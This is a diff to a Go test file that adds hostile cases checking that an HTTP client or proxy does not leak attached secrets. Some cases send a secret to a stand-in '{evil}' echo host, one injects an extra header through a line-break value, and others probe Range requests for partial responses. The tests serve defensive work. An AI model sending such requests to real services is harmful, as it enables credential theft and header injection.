@@ -165,6 +165,12 @@ func hostileCases() []hostileCase {
 		{name: "secret with a line break", req: get("{api}/echo", 0), secret: bearer, value: "abc\r\nX-Injected: 1", unseen: true},
 		{name: "secret that is short", req: get("{api}/echo", 0), secret: bearer, value: "abc", unseen: true},
 		{name: "echo as JSON of what the call used before", req: get("{evil}/echo?as=all&q="+plainSecret, 0), secret: bearer, before: &Request{URL: "{api}/ok"}},
+		{name: "echo of what another call used", req: get("{evil}/echo?as=all&q="+plainSecret, 0), secret: bearer},
+		{name: "a part of a response", req: withHeader("range", "bytes=0-10"), secret: bearer, unseen: true},
+		{name: "a part, if it is the same", req: withHeader("If_Range", `"a"`), secret: bearer, unseen: true},
+		{name: "a part of a response without a secret", req: withHeader("Range", "bytes=0-10")},
+		{name: "a part that was not asked for", req: get("{api}/echo?as=part", 0), secret: bearer},
+		{name: "a part that was not asked for, without a secret", req: get("{api}/echo?as=part", 0)},
 		{name: "echo of basic authentication", req: get("{api}/echo", 0), secret: Place{Basic: "user"}},
 		{name: "echo of a header name", req: get("{api}/echo?as=header-name", 0), secret: bearer},
 		{name: "secret in an error of the server", req: get("{api}/echo?as=status", 0), secret: bearer},
@@ -179,7 +185,7 @@ func hostileCases() []hostileCase {
 		{name: "server that switches protocols", req: get("{switch}/ok", 0), rules: []Rule{{URL: "{switch}/*"}}},
 		{name: "two lengths", req: get("{lengths}/ok", 0), rules: []Rule{{URL: "{lengths}/*"}}},
 	}
-	for _, as := range []string{"", "header", "cookie", "gzip", "base64", "base64-inner", "hex", "json", "json-slash", "html", "query", "query-twice", "lower-escapes"} {
+	for _, as := range []string{"", "header", "cookie", "gzip", "base64", "base64-inner", "hex", "json", "json-slash", "html", "query", "lower-escapes"} {
 		cases = append(cases, hostileCase{name: "echo as " + as, req: get("{api}/echo?as="+as, 0), secret: query, value: theSecret})
 	}
 	return cases
